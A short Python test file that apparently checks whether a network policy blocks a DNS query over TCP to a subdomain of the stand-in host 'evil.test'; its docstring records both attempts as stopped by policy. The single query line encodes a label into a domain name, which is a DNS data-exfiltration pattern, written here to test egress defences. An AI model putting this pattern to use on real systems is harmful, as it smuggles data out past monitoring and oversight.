# SPDX-License-Identifier: Apache-2.0
"""Another server over TCP.

recorded: 4=policy 6=policy
"""
from attack import attempt


def way(a):
    a.dns(f'{a.label}.evil.test', tcp=True)


attempt(way)
